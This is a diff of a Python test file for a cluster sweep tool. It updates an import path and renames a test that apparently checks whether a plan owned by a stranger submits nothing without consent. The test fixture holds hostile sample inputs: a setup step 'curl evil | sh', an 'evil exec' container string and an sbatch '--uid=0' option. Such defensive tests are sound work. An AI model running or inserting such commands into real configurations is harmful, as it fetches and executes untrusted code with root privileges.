@@ -22,7 +22,7 @@ from sweeps.request import options
 from sweeps.typed import command_line
 from sweeps.typed.arguments import Arguments
 from tests.support.records import make_result, make_sweep
-from tests.sweeps.test_run import QUICK, ROOT, journal, only_sweep, run
+from tests.support.sweep_command import QUICK, ROOT, journal, only_sweep, run
 from tests.tracking.sinks.test_trust import give_away, only_root
 from tracking.folder.journal import Journal
 from tracking.record import Trial
@@ -120,7 +120,7 @@ def test_a_cluster_that_is_gone_is_reported_with_what_to_do(tmp_path: Path) -> N
 
 
 @only_root
-def test_a_strangers_plan_submits_nothing_that_nobody_was_asked_about(tmp_path: Path, site: dict[str, str]) -> None:
+def test_a_strangers_plan_submits_nothing_without_consent(tmp_path: Path, site: dict[str, str]) -> None:
     options = {"setup": ["curl evil | sh"], "container": "evil exec", "sbatch": ["--uid=0"]}
     plan_of(tmp_path / "sweep", {"cluster": "slurm", "cluster_options": options})
     give_away(tmp_path / "sweep")
